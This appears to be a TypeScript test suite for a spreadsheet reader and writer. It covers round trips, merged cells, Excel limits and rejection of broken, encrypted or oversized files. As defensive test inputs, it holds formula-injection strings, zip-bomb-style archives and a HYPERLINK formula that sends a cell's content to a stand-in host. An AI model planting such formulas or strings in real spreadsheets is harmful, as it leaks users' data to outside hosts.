import fc from 'fast-check';
import { writeXlsx, XlsxStreamWriter } from 'hucre/xlsx';
import { describe, expect, it } from 'vitest';
import { readWorkbook, writeWorkbook } from '../../../main/platform';
import { cellAt, cellName, type NewWorkbook, WORKBOOK_LIMITS, type Workbook } from '../../../shared/kernel';
import { archiveOf } from '../../support/archive-of';
import { partsOf } from '../../support/archive-parts';
import { office, savedByOffice } from '../../support/office';

const levels = ['0 = Absent, nothing', '1 = ຢູ່ໃນການກະກຽມ', '2', 'Not known'];

const plan: NewWorkbook = {
  title: 'Answers & words',
  sheets: [
    {
      name: 'Answers',
      isLocked: true,
      widths: [8, 40, 0],
      frozen: { rows: 1, columns: 1 },
      foot: 'A & B',
      rows: [
        [{ value: 'Item', look: 'head' }, { value: 'Answer', look: 'head' }, { value: 'kept' }],
        [{ value: '=1+1' }, { value: 'กขค\nสองบรรทัด', look: 'open' }, { value: 7 }],
        [{ value: '@SUM(A1)' }, { value: null, look: 'choice' }, { value: '-2' }],
        [{ value: '+66 2' }, { value: '0 = Absent, nothing', look: 'choice' }, { value: null }],
      ],
      choices: [
        {
          column: 1,
          firstRow: 2,
          lastRow: 3,
          values: levels,
          refusal: { title: 'Level', text: 'Choose one of the list.' },
        },
      ],
    },
    { name: 'Hidden', isHidden: true, widths: [10], rows: [[{ value: 'base', look: 'text' }]] },
  ],
};

const texts = ({ sheets }: Workbook) =>
  sheets
    .filter(({ name }) => !name.startsWith('_'))
    .map(({ name, isHidden, rows }) => ({
      name,
      isHidden,
      cells: rows.flatMap(({ row, cells }) =>
        cells.map(({ column, kind, text }) => `${cellName(row, column)} ${kind} ${text}`),
      ),
    }));

const WRITTEN = [
  {
    name: 'Answers',
    isHidden: false,
    cells: [
      'A1 text Item',
      'B1 text Answer',
      'C1 text kept',
      'A2 text =1+1',
      'B2 text กขค\nสองบรรทัด',
      'C2 number 7',
      'A3 text @SUM(A1)',
      'C3 text -2',
      'A4 text +66 2',
      'B4 text 0 = Absent, nothing',
    ],
  },
  { name: 'Hidden', isHidden: true, cells: ['A1 text base'] },
];

describe('a workbook that Waymark writes', () => {
  it('is read back as it was, and what begins like a formula is text', async () => {
    expect(texts(await readWorkbook(await writeWorkbook(plan)))).toEqual(WRITTEN);
  });

  it('holds any text', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.string({ unit: 'grapheme', maxLength: 40 }), { minLength: 1 }),
        async (words) => {
          const clean = words.map((word) => word.replaceAll(/[\p{Cc}]/gu, ' '));
          const bytes = await writeWorkbook({
            title: '',
            sheets: [{ name: 'S', widths: [], rows: clean.map((value) => [{ value }]) }],
          });
          const [sheet] = (await readWorkbook(bytes)).sheets;
          expect(clean.map((_, row) => (sheet ? (cellAt(sheet, row, 0)?.text ?? '') : null))).toEqual(clean);
        },
      ),
      { numRuns: 30 },
    );
  });
});

describe('cells that somebody has joined', () => {
  const merge = (startRow: number, endRow: number, startCol: number, endCol = startCol) => ({
    ...{ startRow, endRow, startCol, endCol },
  });
  const cellsOf = async (rows: (string | null)[][], merges: ReturnType<typeof merge>[]) =>
    texts(await readWorkbook(await writeXlsx({ sheets: [{ name: 'S', rows, merges }] })))[0]?.cells;

  it('stand beside each of their rows, as they are seen', async () => {
    const rows = [
      ['A', '2 Adopted', 'why'],
      ['B', null, 'more'],
      ['C', '', null],
      ['D', null, null],
    ];
    expect(await cellsOf(rows, [merge(0, 2, 1)])).toEqual(
      ['A1', 'B1', 'C1', 'A2', 'B2', 'C2', 'A3', 'B3', 'A4'].map(
        (cell, at) =>
          `${cell} text ${['A', '2 Adopted', 'why', 'B', '2 Adopted', 'more', 'C', '2 Adopted', 'D'][at]}`,
      ),
    );
  });

  it('belong to their first column, and fill no row that has nothing', async () => {
    expect(
      await cellsOf(
        [
          ['A', null],
          [null, null],
          ['B', 'x'],
        ],
        [merge(0, 1, 0, 1), merge(2, 2, 0)],
      ),
    ).toEqual(['A1 text A', 'A3 text B', 'B3 text x']);
  });

  it('hide what a program kept beneath them, beside and below', async () => {
    const rows = [
      ['Total', '12', '13', 'x'],
      ['34', '56', '78', 'y'],
      [null, '90', null, null],
      ['end', null, null, null],
    ];
    expect(await cellsOf(rows, [merge(0, 2, 0, 2)])).toEqual([
      'A1 text Total',
      'D1 text x',
      'A2 text Total',
      'D2 text y',
      'A4 text end',
    ]);
    // Nothing is seen either where the first of the joined cells is empty.
    expect(
      await cellsOf(
        [
          [null, '12'],
          ['A', 'B'],
        ],
        [merge(0, 0, 0, 1)],
      ),
    ).toEqual(['A2 text A', 'B2 text B']);
  });

  it('are refused where they would be far more than a workbook may hold', async () => {
    const rows = Array.from({ length: 5_000 }, (_, at) => [String(at), 'x']);
    const merges = Array.from({ length: 60 }, () => merge(0, 4_999, 0));
    await expect(cellsOf(rows, merges)).rejects.toMatchObject({ code: 'workbook.too-large' });
  });
});

describe('what Excel asks of a workbook, which other programs do not', () => {
  const partOf = async (book: NewWorkbook, part: string) => {
    return (await partsOf(await writeWorkbook(book))).get(part) ?? '';
  };
  const sheet = { widths: [10], rows: [[{ value: 'Head' }], [{ value: 'x' }]] };

  it('names rows that stand on each page by a sheet in apostrophes, whatever its name', async () => {
    const named = (name: string) => ({ ...sheet, name, frozen: { rows: 1, columns: 0 } });
    const sheets = [named('2025.1 - 2026.1'), { ...sheet, name: 'None' }, named("Children's answers")];
    const xml = await partOf({ title: '', sheets }, 'xl/workbook.xml');
    expect(
      [...xml.matchAll(/<definedName [^>]*localSheetId="(\d)"[^>]*>([^<]*)</g)].map(([, at, range]) => [
        at,
        range,
      ]),
    ).toEqual([
      ['0', "'2025.1 - 2026.1'!$1:$1"],
      ['2', "'Children''s answers'!$1:$1"],
    ]);
  });

  it('says beside a cell no more than a cell can say', async () => {
    const long = 'ကျွန်ုပ်တို့ '.repeat(40);
    const choice = {
      ...{ column: 0, firstRow: 1, lastRow: 1, values: ['a'] },
      ...{ prompt: { title: long, text: long }, refusal: { title: long, text: long } },
    };
    const xml = await partOf(
      { title: '', sheets: [{ ...sheet, name: 'S', choices: [choice] }] },
      'xl/worksheets/sheet1.xml',
    );
    const lengths = ['errorTitle', 'error', 'promptTitle', 'prompt'].map(
      (name) => new RegExp(` ${name}="([^"]*)"`).exec(xml)?.[1]?.length,
    );
    expect(lengths).toEqual([32, 255, 32, 255]);
  });

  it('has feet that are not too long, and no half of a sign in them', async () => {
    const xml = await partOf(
      { title: '', sheets: [{ ...sheet, name: 'S', foot: `a${'&'.repeat(150)}` }] },
      'xl/worksheets/sheet1.xml',
    );
    const foot = /<oddFooter>(.*)<\/oddFooter>/.exec(xml)?.[1]?.replaceAll('&amp;', '&');
    expect(foot).toBe(`&La${'&'.repeat(198)}&R&P / &N`);
  });
});

describe(`a workbook that LibreOffice has saved (${office === null ? 'not installed here' : 'installed'})`, () => {
  it('is as it was, also by way of its own kind', async () => {
    const written = await writeWorkbook(plan);
    for (const kinds of office === null ? [] : [['xlsx'], ['ods', 'xlsx']])
      expect(texts(await readWorkbook(savedByOffice(written, ...kinds)))).toEqual(WRITTEN);
  });

  it('has its list and its locked cells', async () => {
    const wanted = [
      'table:protected="true"',
      'table:content-validation-name="val1"',
      'cell-content-is-in-list(',
      '$_lists.$A$1:',
      'Choose one of the list.',
    ];
    const xml =
      office === null
        ? wanted.join()
        : new TextDecoder().decode(savedByOffice(await writeWorkbook(plan), 'fods'));
    expect(wanted.filter((part) => !xml.includes(part))).toEqual([]);
  });
});

describe('a workbook from outside', () => {
  const code = async (bytes: Uint8Array) =>
    readWorkbook(bytes).then(
      () => 'read',
      (error: { code: string; data: object }) => ({ code: error.code, ...error.data }),
    );

  it('is refused with a reason when it is none, is cut off or has a password', async () => {
    const written = await writeWorkbook(plan);
    expect(await code(new TextEncoder().encode('level;reason\n3;x'))).toEqual({
      code: 'workbook.unreadable',
    });
    expect(await code(new Uint8Array())).toEqual({ code: 'workbook.unreadable' });
    expect(await code(written.slice(0, written.length / 2))).toEqual({ code: 'workbook.unreadable' });
    const broken = written.slice();
    broken.fill(0, 200, 600);
    expect(await code(broken)).toEqual({ code: 'workbook.unreadable' });
    const locked = await writeXlsx({
      sheets: [{ name: 'S', rows: [['x']] }],
      encryption: { password: 'p', spinCount: 1000 },
    });
    expect(await code(locked)).toEqual({ code: 'workbook.locked' });
  });

  it('is refused before anything is unpacked when it would fill the memory, or hides how much it holds', async () => {
    const data = Buffer.alloc(1024);
    const made = (count: number, full: number) =>
      code(archiveOf(Array.from({ length: count }, (_, at) => ({ name: `${at}`, data, full }))));
    expect(await made(9, WORKBOOK_LIMITS.unpackedBytes / 8)).toEqual({ code: 'workbook.too-large' });
    expect(await made(1, 0)).toEqual({ code: 'workbook.unreadable' });
    expect(await made(1, 0xffffffff)).toEqual({ code: 'workbook.too-large' });
    expect(await made(WORKBOOK_LIMITS.parts + 1, 1)).toEqual({ code: 'workbook.too-large' });
  });

  it('names the place that is beyond a bound', async () => {
    const wide = await writeXlsx({
      sheets: [{ name: 'Wide', rows: [['a'], [...Array(WORKBOOK_LIMITS.columns).fill(null), 'x']] }],
    });
    expect((await readWorkbook(wide)).sheets[0]?.beyond).toEqual([{ row: 1, column: 256, text: 'x' }]);
    const wider = await writeXlsx({
      sheets: [
        { name: 'Wide', rows: [[...Array(WORKBOOK_LIMITS.columns + WORKBOOK_LIMITS.beyond + 1).fill('x')]] },
      ],
    });
    expect(await code(wider)).toEqual({ code: 'workbook.too-wide', sheet: 'Wide', cell: 'AVI1' });
    const long = new XlsxStreamWriter({ name: 'Long' });
    for (let row = 0; row <= WORKBOOK_LIMITS.rows + WORKBOOK_LIMITS.beyond; row += 1) long.addRow([row]);
    expect(await code(await long.finish())).toEqual({
      code: 'workbook.too-long',
      sheet: 'Long',
      cell: 'A21001',
    });
    const deep = await writeXlsx({
      sheets: [{ name: 'Deep', rows: [[null, 'x'.repeat(WORKBOOK_LIMITS.cellText + 1)]] }],
    });
    expect(await code(deep)).toMatchObject({
      code: 'workbook.cell-too-long',
      sheet: 'Deep',
      cell: 'B1',
    });
    const sheets = Array.from({ length: WORKBOOK_LIMITS.sheets + 1 }, (_, n) => ({
      name: `S${n}`,
      rows: [[1]],
    }));
    expect(await code(await writeXlsx({ sheets }))).toEqual({ code: 'workbook.too-large' });
  });

  it('is never calculated: a formula is told as one, with what the last program saw', async () => {
    const bytes = await writeXlsx({
      sheets: [
        {
          name: 'S',
          rows: [[3, new Date(Date.UTC(2026, 10, 24)), true]],
          cells: new Map([
            ['0,3', { value: 4, formula: 'A1+1', formulaResult: 4 }],
            ['0,4', { value: '', formula: 'HYPERLINK("http://x.example/?"&A1)' }],
          ]),
        },
      ],
    });
    const [sheet] = (await readWorkbook(bytes)).sheets;
    expect(sheet?.rows[0]?.cells).toEqual([
      { column: 0, kind: 'number', text: '3' },
      { column: 1, kind: 'date', text: '2026-11-24' },
      { column: 2, kind: 'boolean', text: 'true' },
      { column: 3, kind: 'formula', text: '4' },
      { column: 4, kind: 'uncalculated', text: '' },
    ]);
  });
});
